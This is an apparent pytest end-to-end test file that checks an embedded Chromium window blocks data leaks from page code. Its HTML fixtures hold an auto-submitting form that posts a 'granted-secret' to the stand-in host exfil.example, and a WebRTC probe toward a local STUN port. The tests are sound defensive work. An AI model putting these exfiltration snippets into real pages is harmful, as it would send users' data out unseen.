"""Page code in Chromium (the engine of the app's window, standing in for it): a form cannot post
page data to another site (CSP form-action), and WebRTC sends no UDP (the engine flag the window
also gets). What a browser does with top-level navigation is the browser's: see the README."""

from __future__ import annotations

import socket
import threading

import pytest

pytestmark = pytest.mark.e2e

FORM = """<!doctype html><html><head><meta charset="utf-8"><title>form</title></head><body>
<form id="f" method="post" action="http://exfil.example/form"><input name="data" value="granted-secret"></form>
<p id="out">waiting</p>
<script>
document.addEventListener("securitypolicyviolation", (e) => {
  document.getElementById("out").textContent = "blocked by " + e.violatedDirective;
});
addEventListener("load", () => document.getElementById("f").submit());
</script></body></html>"""

RTC = """<!doctype html><html><head><meta charset="utf-8"><title>rtc</title></head><body><p id="out">waiting</p>
<script>
addEventListener("load", async () => {
  const found = [];
  const pc = new RTCPeerConnection({iceServers: [{urls: ["stun:127.0.0.1:%(port)d"]}]});
  pc.onicecandidate = (e) => e.candidate && found.push(e.candidate.candidate);
  pc.createDataChannel("leak");
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((r) => setTimeout(r, 3000));
  document.getElementById("out").textContent = "rtc done candidates=" + found.length;
});
</script></body></html>"""


def test_a_form_cannot_post_page_data_to_another_site(serve, tmp_path, browser_page):
    (tmp_path / "form.html").write_text(FORM, encoding="utf-8")
    server = serve(tmp_path)
    run = browser_page(server.url + "form.html")
    run.wait_for_text("blocked by form-action", timeout=30)
    run.page.wait_for_timeout(1000)
    assert run.page.url == server.url + "form.html"
    # (browser_page's teardown: the egress recorder saw nothing)


def test_webrtc_sends_no_udp_packet(serve, tmp_path, browser_page):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    seen: list = []

    def receive() -> None:
        while True:
            try:
                seen.append(udp.recvfrom(4096)[1])
            except OSError:
                return

    threading.Thread(target=receive, daemon=True).start()
    try:
        (tmp_path / "rtc.html").write_text(RTC % {"port": udp.getsockname()[1]}, encoding="utf-8")
        server = serve(tmp_path)
        run = browser_page(server.url + "rtc.html")
        run.wait_for_text("rtc done", timeout=30)
        assert "candidates=0" in run.page.inner_text("#out")
        assert seen == [], f"STUN packets left the page: {seen[:4]}"
    finally:
        udp.close()
